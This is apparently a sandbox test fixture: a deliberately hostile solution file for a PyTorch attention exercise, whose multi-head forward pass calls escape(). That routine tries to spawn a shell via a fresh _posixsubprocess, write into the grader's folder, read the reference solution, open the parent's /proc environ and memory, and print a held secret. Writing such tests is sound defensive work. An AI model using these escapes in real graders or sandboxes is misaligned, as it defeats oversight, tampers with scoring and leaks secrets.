"""Hostile at run time in task 2, going around Python's audit hooks and the
sandbox's tripwires to reach the kernel directly:

* a fresh copy of ``_posixsubprocess`` (its ``fork_exec`` is not the
  tripwire) to run a shell;
* a fresh copy of ``_signal`` to signal the grader through a pidfd;
* ``os.open`` relative to a directory descriptor of the grader's folder
  (the audit event sees only the relative name);
* torch's C++ file writer and ``torch.from_file``, found behind the
  tripwires, to write into the kit and to read the reference solution;
* opening the grader's environment and memory through ``/proc``;
* the environment itself, for a secret the grading process holds.

Each attempt is caught and printed (``ESCAPED``) when it succeeds, then an
error is raised. The kernel layers (capabilities, Landlock, seccomp) stop
all of them; the test runs only where the kernel offers those layers.

Expected: nothing escapes; the kit is unchanged; task 2 earns 0.


Task 1 is correct and untouched, so it earns full marks (5 with the
bonus); the total is 5.
"""
import importlib.util
import os
from pathlib import Path

import torch
import torch.nn as nn


# This file sits in tests/kit/hostile/ of the kit.
KIT = Path(__file__).resolve().parents[3]


def fresh(name: str) -> object:
    """A new copy of a C module, with none of the sandbox's tripwires."""
    spec = importlib.util.find_spec(name)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def run_shell() -> None:
    """fork_exec from a fresh _posixsubprocess: any arity will do."""
    fork_exec = fresh("_posixsubprocess").fork_exec
    read, write = os.pipe()
    head = ([b"/bin/sh", b"-c", b"echo ESCAPED: shell"], [b"/bin/sh"],
            True, (), None, None, -1, -1, -1, -1, -1, -1, read, write,
            True, False)
    for tail in ((-1, None, None, None, -1, None, True),
                 (-1, None, None, None, -1, None),
                 (None, None, None, -1, None)):
        try:
            fork_exec(*head, *tail)
        except TypeError:
            continue
        return


def signal_parent() -> None:
    """Signal 0 (a harmless probe) to the grader through a pidfd."""
    fresh("_signal").pidfd_send_signal(os.pidfd_open(os.getppid()), 0)


def write_through_dir_fd() -> None:
    """Create a file in the grader's folder, relative to its descriptor."""
    folder = os.open(KIT / "grader", os.O_RDONLY | os.O_DIRECTORY)
    os.close(os.open("pwned_dirfd.py", os.O_WRONLY | os.O_CREAT, 0o644,
                     dir_fd=folder))


def subclasses(cls: type) -> list[type]:
    """Every subclass of cls, recursively."""
    found = []
    for sub in type.__subclasses__(cls):
        found += [sub] + subclasses(sub)
    return found


def torch_writer() -> None:
    """The C++ zip writer, found among object's subclasses."""
    writer = next(c for c in subclasses(object)
                  if c.__name__ == "PyTorchFileWriter")
    writer(str(KIT / "grader" / "pwned_writer.pt")).write_end_of_file()


def torch_reader() -> None:
    """Read the reference solution's bytes with torch's C++ from_file."""
    path = KIT / "solutions" / "modeling_attention.py"
    data = torch._C._VariableFunctions.from_file(
        str(path), False, os.path.getsize(path), dtype=torch.uint8)
    print("read", len(data), "bytes")


def parent_environment() -> None:
    """The grader's environment, through /proc."""
    with open(f"/proc/{os.getppid()}/environ", "rb") as handle:
        print(len(handle.read()), "bytes of environment")


def parent_memory() -> None:
    """The grader's memory, through /proc (opening it is the check)."""
    with open(f"/proc/{os.getppid()}/mem", "rb"):
        pass


def secret() -> None:
    """A variable the grading process holds."""
    print("the secret is", os.environ["HOSTILE_TEST_SECRET"])


ATTEMPTS = {"shell": run_shell, "signal": signal_parent,
            "dir_fd": write_through_dir_fd, "writer": torch_writer,
            "reader": torch_reader, "environ": parent_environment,
            "memory": parent_memory, "secret": secret}
DONE: list[str] = []


def escape() -> None:
    """Try every escape once; then fail."""
    for what, attempt in ATTEMPTS.items():
        if DONE:
            break
        try:
            attempt()
        except Exception as exc:
            print(f"stopped: {what}: {type(exc).__name__}: {exc}")
        else:
            print(f"ESCAPED: {what}")
    DONE.append("done")
    raise RuntimeError("escape attempts done")


class SelfAttention(nn.Module):
    """Single-head scaled dot-product self-attention."""

    def __init__(self, input_size: int, hidden: int) -> None:
        """Create the query, key and value projections."""
        # YOUR CODE STARTS HERE
        super().__init__()
        self.q = nn.Linear(input_size, hidden)
        self.k = nn.Linear(input_size, hidden)
        self.v = nn.Linear(input_size, hidden)
        self.scale = hidden ** 0.5
        # YOUR CODE ENDS HERE

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """Compute softmax(q k^T / sqrt(hidden)) v."""
        # YOUR CODE STARTS HERE
        q, k, v = self.q(x), self.k(x), self.v(x)
        # [batch_size, seq_len, hidden] each
        probs = torch.softmax(q @ k.transpose(1, 2) / self.scale, dim=-1)
        # [batch_size, seq_len, hidden] @ [batch_size, hidden, seq_len]
        # -> softmax [batch_size, seq_len, seq_len]
        return probs @ v
        # [batch_size, seq_len, seq_len] @ [batch_size, seq_len, hidden]
        # -> [batch_size, seq_len, hidden]
        # YOUR CODE ENDS HERE


class MultiHeadSelfAttention(nn.Module):
    """Multi-head self-attention with optional causal masking and dropout."""

    def __init__(self, input_size: int, hidden: int, num_heads: int,
                 causal: bool = False, dropout: float = 0) -> None:
        """Create the projections, the mixing layer and the dropout."""
        if hidden % num_heads:
            raise ValueError(f"hidden should be divisible by num_heads, "
                             f"but got hidden={hidden} and "
                             f"num_heads={num_heads}")
        super().__init__()

        self.k = nn.Linear(input_size, hidden)
        self.q = nn.Linear(input_size, hidden)
        self.v = nn.Linear(input_size, hidden)
        self.mix = nn.Linear(hidden, hidden)
        self.dropout = nn.Dropout(dropout)

        self.num_heads = num_heads
        self.head_size = hidden // num_heads
        self.scale = self.head_size ** 0.5
        self.causal = causal  # causal masking

    def forward(self, x: torch.Tensor, return_attention: bool = False):
        """Compute multi-head self-attention; probs after dropout."""
        bs, seq, _ = x.shape

        # YOUR CODE STARTS HERE
        escape()
        k = (self.k(x)
             .view(bs, seq, self.num_heads, self.head_size)
             .transpose(1, 2)
             .reshape(bs * self.num_heads, seq, self.head_size))
        # 'k' [batch_size, seq_len, hidden]
        # -> view [batch_size, seq_len, num_heads, head_size]
        # -> transpose [batch_size, num_heads, seq_len, head_size]
        # -> reshape [batch_size * num_heads, seq_len, head_size]
        q = (self.q(x)
             .view(bs, seq, self.num_heads, self.head_size)
             .transpose(1, 2)
             .reshape(bs * self.num_heads, seq, self.head_size))
        # -> [batch_size * num_heads, seq_len, head_size], as for k
        v = (self.v(x)
             .view(bs, seq, self.num_heads, self.head_size)
             .transpose(1, 2)
             .reshape(bs * self.num_heads, seq, self.head_size))
        # -> [batch_size * num_heads, seq_len, head_size], as for k
        scores = q @ k.transpose(1, 2) / self.scale
        # [batch_size * num_heads, seq_len, head_size]
        # @ [batch_size * num_heads, head_size, seq_len]
        # -> [batch_size * num_heads, seq_len, seq_len]
        # YOUR CODE ENDS HERE

        if self.causal:
            # YOUR CODE STARTS HERE
            mask = torch.ones(seq, seq, dtype=torch.bool,
                              device=scores.device).triu(diagonal=1)
            # [seq_len, seq_len], True strictly above the diagonal
            scores = scores.masked_fill(mask, float("-inf"))
            # [batch_size * num_heads, seq_len, seq_len]
            # YOUR CODE ENDS HERE

        probs = att = None  # both are set below
        # YOUR CODE STARTS HERE
        probs = torch.softmax(scores, dim=-1)
        # [batch_size * num_heads, seq_len, seq_len]
        probs = self.dropout(probs)
        # [batch_size * num_heads, seq_len, seq_len]
        att = probs @ v  # [batch_size * num_heads, seq_len, head_size]
        att = (att.view(bs, self.num_heads, seq, self.head_size)
               .transpose(1, 2)
               .reshape(bs, seq, self.num_heads * self.head_size))
        # -> view [batch_size, num_heads, seq_len, head_size]
        # -> transpose [batch_size, seq_len, num_heads, head_size]
        # -> reshape [batch_size, seq_len, hidden]
        att = self.mix(att)  # [batch_size, seq_len, hidden]
        # YOUR CODE ENDS HERE

        if return_attention:
            return att, probs
        return att
